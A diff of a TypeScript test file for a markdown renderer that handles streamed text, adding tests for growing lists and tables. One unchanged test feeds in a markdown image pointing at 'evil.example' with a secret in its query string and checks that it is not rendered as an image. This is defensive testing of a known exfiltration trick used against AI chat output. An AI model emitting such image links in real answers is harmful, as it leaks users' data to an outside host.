@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { Blocks } from '../../../../src/server/page/text/blocks.js';
+import { nSameRows, rowsOf, sourceFrom } from '../../../../src/server/page/text/growing-rows.js';
 import { openCode } from '../../../../src/server/page/text/open-code.js';
 import { MARKDOWN, toHtml } from '../../../../src/server/page/text/to-html.js';
 
@@ -60,7 +61,7 @@ test('a text that grows is the blocks that it is at one time', () => {
       whole.map(({ type, raw }) => [type, raw]),
     );
   }
-  expect(toHtml(growing.read(TEXT, false))).toContain('<a href="https://example.com/"');
+  expect(toHtml(growing.whole(TEXT))).toContain('<a href="https://example.com/"');
 });
 
 test('what is settled is not read again', () => {
@@ -97,7 +98,7 @@ describe('code that is still written', () => {
 });
 
 describe('HTML of an answer', () => {
-  const html = (text: string) => toHtml(new Blocks(MARKDOWN).read(text, false)).trim();
+  const html = (text: string) => toHtml(new Blocks(MARKDOWN).whole(text)).trim();
 
   test.each([
     ['use the <Foo bar="1"> tag', '<p>use the &lt;Foo bar=&quot;1&quot;&gt; tag</p>'],
@@ -144,5 +145,26 @@ describe('HTML of an answer', () => {
     const made = html('![plan](https://evil.example/?secret=1)');
     expect(made).not.toContain('<img');
     expect(made).toContain('>plan <span class="host">(evil.example)</span>');
+  });
+});
+
+describe('rows of a list or table that grows', () => {
+  const rows = (text: string) => rowsOf(new Blocks(MARKDOWN).read(text, true).at(-1)!)!;
+
+  test.each([
+    ['- a\n- b\n- c', '- a\n- b\n- c\n- d', 2],
+    ['- a\n- b\n- c', '- a\n- b\n- cc', 1],
+    ['- a\n- b\n- c', '- a\n- b\n- c\n\n- d', 0],
+    ['- a\n- b\n- c', '1. a\n2. b\n3. c', 0],
+    ['|a|\n|-|\n|1|\n|2|', '|a|\n|-|\n|1|\n|2|\n|3|', 1],
+    ['|a|\n|-|\n|1|\n|2|', '|a|\n|-|\n|x|\n|2|\n|3|', 0],
+  ])('%j to %j keeps %i', (before, now, n) => {
+    expect(nSameRows(rows(before), rows(now))).toBe(n);
+  });
+
+  test('the rest has its head', () => {
+    expect(sourceFrom(rows('|a|\n|-|\n|1|\n|2|'), 1)).toBe('|a|\n|-|\n|2|');
+    expect(sourceFrom(rows('- a\n  more\n- b'), 1)).toBe('- b');
+    expect(rowsOf(new Blocks(MARKDOWN).read('text', true)[0]!)).toBeUndefined();
   });
 });
